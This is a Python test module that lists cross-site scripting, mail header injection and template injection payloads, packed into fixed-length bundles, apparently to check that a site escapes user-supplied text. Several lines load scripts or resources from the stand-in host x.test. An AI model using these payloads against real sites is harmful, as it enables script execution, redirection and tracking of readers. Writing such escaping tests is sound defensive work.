"""What a stranger may type to have something run where others read it: one line each, with what it tries.

`§` stands for the number of the line. What runs calls `ran(§)` or asks for something of `x.test`; what a
template works out says `1337`. Formulas of spreadsheets run in no page (`tests/offers/test_spreadsheets.py`).
"""

from collections.abc import Iterator
from typing import Final

# How it has to begin, or what it swallows, keeps it from standing beside others in one field.
FIRST: Final = (
    "javascript:ran(§)",  # an address that is a script
    "JaVaScRiPt&colon;ran(§)",  # the same, in mixed case and with its colon as an entity
    "java\tscript:ran(§)",  # with a tab, which browsers leave out
    "data:text/html,<script>parent.ran(§)</script>",  # an address that is a page
    "//x.test/§",  # an address of another host without its scheme
    "a\r\nBcc: evil@x.test\r\n\r\n<script>ran(§)</script>",  # another header of a mail, line of a calendar
)
ANYWHERE: Final = (
    "<script>ran(§)</script>",  # a script
    '"><script>ran(§)</script>',  # out of an attribute in double quotes
    "'><script>ran(§)</script>",  # in single quotes
    '" onfocus=ran(§) autofocus x="',  # another attribute of the same tag
    "' onmouseover=ran(§) x='",  # the same, in single quotes
    " onload=ran(§) ",  # where an attribute has no quotes
    "`;ran(§);//",  # out of a template literal of JavaScript
    "';ran(§);//",  # out of a text of JavaScript
    '\\";ran(§);//',  # out of one whose quotes are escaped, but not its backslash
    "\u2028ran(§)//",  # a line separator, which once ended a text in JavaScript
    "</script><script>ran(§)</script>",  # the end of JSON in a script
    "</title><img src=x onerror=ran(§)>",  # out of the title of the page
    "</textarea><svg onload=ran(§)>",  # out of a field
    "<img src=x onerror=ran(§)>",  # a picture that is not there
    "<img src=//x.test/§>",  # a picture from elsewhere: says who reads
    "<svg><animate onbegin=ran(§) attributeName=x>",  # an event of SVG
    "<svg><script href=//x.test/§ />",  # a script of SVG
    "<math><mi xlink:href=javascript:ran(§)>x",  # a link of MathML
    "<iframe srcdoc='<script>parent.ran(§)</script>'>",  # a page in a frame
    "<object data=javascript:ran(§)>",  # an object
    "<a href=javascript:ran(§)>x</a>",  # a link
    "<form action=javascript:ran(§)><button>x</form>",  # a form
    "<details open ontoggle=ran(§)>",  # an event that needs nobody
    "<base href=//x.test/>",  # turns all addresses of the page round
    "<meta http-equiv=refresh content='0;url=//x.test/§'>",  # leads away
    "<link rel=stylesheet href=//x.test/§>",  # a style sheet from elsewhere
    "<style>@import'//x.test/§';</style>",  # the same within a style
    "<p style=background:url(//x.test/§)>",  # the same within an attribute
    '";background:url(//x.test/§);"',  # out of a value within a style
    "{{1330|add:7}}ssti{% debug %}",  # a template of Django
    "ssti${7*191}#{7*191}<%=7*191%>",  # of others
    "[x](javascript:ran(§))![y](//x.test/§)",  # Markdown
    "&lt;script&gt;ran(§)&lt;/script&gt;",  # escaped already: must not be unescaped
    "%3Cscript%3Eran(§)%3C/script%3E",  # the same in an address
    "\uff1cscript\uff1eran(§)\uff1c/script\uff1e",  # full-width signs, which a normalisation makes plain ones
    "\u202e<script>ran(§)</script>\u202c\u2066",  # written from right to left
    "<scr\u200bipt>ran(§)</scr<script>ipt>",  # taken out once it is a script
    "<noscript><p title='</noscript><img src=x onerror=ran(§)>'>",  # means another thing when read again
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=ran(§)>'>",  # MathML
    "<!--><img src=x onerror=ran(§)>-->",  # a comment that is none
    "<b>fett</b> <i onclick=ran(§)>x</i>",  # rich text with something in it
)
LONGEST: Final = 119  # characters: what every field for free words takes


def payloads() -> tuple[str, ...]:
    return tuple(text.replace("§", str(number)) for number, text in enumerate((*FIRST, *ANYWHERE)))


def bundles() -> Iterator[str]:
    """Each of them, as many together as a field takes: what is escaped as a whole was escaped everywhere.

    What gets out does so first, for nothing before it in the bundle has.
    """
    every = payloads()
    rest = list(every[len(FIRST) :])
    for text in every[: len(FIRST)]:
        yield _filled(text, rest)
    while rest:
        yield _filled(rest.pop(0), rest)


def _filled(text: str, rest: list[str]) -> str:
    """With the longest that still fit, which are taken out of the rest."""
    while fitting := [other for other in rest if len(text) + 1 + len(other) <= LONGEST]:
        longest = max(fitting, key=len)
        rest.remove(longest)
        text = f"{text} {longest}"
    return text
